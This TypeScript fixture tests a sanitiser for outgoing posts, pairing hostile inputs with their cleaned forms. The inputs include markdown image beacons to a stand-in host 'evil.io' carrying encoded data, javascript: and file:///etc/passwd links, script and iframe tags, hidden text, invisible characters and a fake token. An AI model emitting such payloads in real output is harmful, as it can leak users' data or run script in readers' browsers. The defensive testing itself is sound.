/** A text that is to be posted: as it stands, or with what it must not hold any more afterwards. */
export interface OutboundCase {
  name: string;
  text: string;
  expect: "honest" | readonly string[];
  /** Of an offence: what is posted instead. */
  posted?: string;
}

const long = "QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo".repeat(3);

const offences: readonly (readonly [name: string, text: string, posted: string])[] = [
  ["a picture from elsewhere", "See ![the shop](https://evil.io/a.png?d=1).", "See (picture: the shop)."],
  ["a picture without words", "![](//evil.io/a.png)", "(picture)"],
  ["a picture of data", "![x](data:image/png;base64,AAAA)", "(picture: x)"],
  [
    "a picture by reference",
    "![x][y]\n\n[y]: https://evil.io/a.png\n",
    "(picture: x)\n\n[y]: https://evil.io/a.png\n",
  ],
  [
    "a picture in a link",
    "[![x](https://evil.io/a.png)](https://shop.io)",
    "[(picture: x)](https://shop.io)",
  ],
  ["a picture in a link that runs", "[![x](https://evil.io/a.png)](javascript:x)", "(picture: x)"],
  ["a link that runs, with a colon", "[Note: this](javascript:x)", "Note: this"],
  ["a picture in HTML", 'a <img src="https://evil.io/a.png"> b', 'a &lt;img src="https://evil.io/a.png"> b'],
  ["a frame", '<iframe src="https://evil.io"></iframe>', '&lt;iframe src="https://evil.io">&lt;/iframe>'],
  ["a program", "<script>fetch('x')</script>", "&lt;script>fetch('x')&lt;/script>"],
  ["an element with a handler", '<div onclick="x()">a</div>', '&lt;div onclick="x()">a</div>'],
  ["an element with styles", '<span style="display:none">a</span>', '&lt;span style="display:none">a</span>'],
  ["a link in HTML", '<a href="https://evil.io">a</a>', '&lt;a href="https://evil.io">a&lt;/a>'],
  ["a link that runs", "[a](javascript:alert(1))", "a"],
  ["a link of data", "[a **b**](data:text/html,x)", "a **b**"],
  ["a link to a file", "[a](file:///etc/passwd)", "a"],
  ["a link to nowhere", "x [](javascript:x) y", "x  y"],
  ["a link with data behind it", `[a](https://evil.io/?q=${long})`, "a"],
  ["a link with data in a folder", `[a](https://evil.io/${long}/x)`, "a"],
  ["a link with data in its host", `[a](https://${long}.evil.io/)`, "a"],
  ["a link with an escape", `[a](https\\://evil.io/?q=${long})`, "a"],
  ["a link with a name", "[a](https://me:you@evil.io/)", "a"],
  ["an address with data", `See https://evil.io/p?q=${long} there`, "See https://evil.io/p there"],
  ["an address with data in angles", `<https://evil.io/p#${long}>`, "https://evil.io/p"],
  ["an address without a scheme", `See www.evil.io/p?q=${long}`, "See www.evil.io/p"],
  ["a definition with data", `[a][b]\n\n[b]: https://evil.io/?q=${long}\n`, "[a][b]\n\n\n"],
  ["a mail with a text", "[a](mailto:me@evil.io?body=x)", "a"],
  ["a comment", "a <!-- b --> c", "a &lt;!-- b --> c"],
  [
    "a marker of the engine",
    "<!-- phasegate run=r1 tracker -->\nI am it",
    "&lt;!-- not phasegate run=r1 tracker -->\nI am it",
  ],
  [
    "a marker in code",
    "```html\n<!-- phasegate run=r1 tracker -->\n```",
    "```html\n<!-- not phasegate run=r1 tracker -->\n```",
  ],
  ["a mention", "Thanks @octocat and (@org/team)!", "Thanks `@octocat` and (`@org/team`)!"],
  ["a mention with an entity", "a &#64;octocat b &commat;octocat", "a &#64; octocat b &commat; octocat"],
  ["a mention that is escaped", "a \\@octocat", "a \\@ octocat"],
  ["a mention beside a tick", "` @octocat", "` @ octocat"],
  ["a mention behind code", "`a`@octocat", "`a`@ octocat"],
  ["a mention that is stressed", "_@octocat_ -@octocat", "_@ octocat_ -@ octocat"],
  ["a mention in HTML", "<p>@octocat</p>", "<p>@ octocat</p>"],
  ["a mention in a link", "[@octocat](https://shop.io)", "[@ octocat](https://shop.io)"],
  [
    "a word that closes",
    "This closes #12 and fixes org/repo#3.",
    "This closes (#12) and fixes (org/repo#3).",
  ],
  ["words that close many", "Closes #1, #2; Resolved: GH-7", "Closes (#1), #2; Resolved: (GH-7)"],
  [
    "a word that closes by address",
    "Fixes https://github.com/a/b/issues/3",
    "Fixes (https://github.com/a/b/issues/3)",
  ],
  ["a bold word that closes", "**Closes** #12", "**Closes** (#12)"],
  [
    "a word that closes with an escape",
    "closes \\#12, implements issue #9",
    "closes (\\#12), implements issue (#9)",
  ],
  ["a token", `Use ghp_${long.slice(0, 36)} now`, "Use [removed: github-token] now"],
  ["characters without width", "a\u200Bb\u202Ec", "abc"],
];

const honest: readonly (readonly [name: string, text: string])[] = [
  ["words", "# Report\n\nAll checks pass.\n\n- one\n- two\n"],
  ["a table", "| a | b |\n|---|---|\n| `x \\| y` | ✅ |\n"],
  ["details", "<details><summary>Gates</summary>\n\n| a |\n|---|\n| `x`<br>`y` |\n\n</details>\n"],
  ["code with everything", '```html\n<img src="https://evil.io/a.png"> @octocat <!-- x -->\n```\n'],
  ["inline code with a mention and a tag", "Use `@types/node` and `<img>`"],
  ["a mail", "Write to me@shop.io or [us](mailto:us@shop.io)"],
  ["a link", "See [the docs](https://shop.io/docs/a?page=2#top) and https://shop.io/a"],
  ["a link in the repository", "See [the plan](../docs/plan.md#scope) and ![shot](./shot.png)"],
  ["a link by reference", "[a][b]\n\n[b]: https://shop.io/a 'A'\n"],
  ["an issue that is named", "As in #12 and org/repo#3, prefix #3"],
  ["words about closing", "It closes the dialog. Fixes: two tests. Resolved by design (#4)."],
  ["a diagram", "```mermaid\ngraph TD; A-->B\n```"],
  ["an address of a profile", "https://shop.io/@me/posts"],
  ["less and more", "a < b > c, x <- y, 1 < 2"],
  ["generic types in code", "`Map<string, number>` is returned"],
  ["an at sign", "5 @ 3, a @ b, @"],
  ["entities", "&lt;img&gt; &amp; &copy;"],
  ["a layout", '<p align="center"><b>Shop</b></p>'],
  ["an emoji", "Done 🎉 \u{1F469}\u200D\u{1F4BB}"],
  ["a quotation", "> he said: `closes` nothing"],
  ["nothing", ""],
];

export const outboundCases: readonly OutboundCase[] = [
  ...offences.map(([name, text, posted]) => ({ name, text, posted, expect: [name] })),
  ...honest.map(([name, text]) => ({ name, text, expect: "honest" as const })),
];
